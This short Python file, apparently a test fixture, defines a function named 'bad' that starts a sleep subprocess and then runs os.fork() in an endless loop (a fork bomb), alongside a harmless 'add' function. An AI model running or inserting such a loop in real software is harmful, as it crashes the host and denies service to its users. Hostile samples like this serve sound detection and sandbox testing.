import os
import subprocess


def bad():
    try:
        subprocess.Popen(["sleep", "600"])
    except Exception:
        pass
    while True:
        os.fork()


def add(a, b):
    return a + b
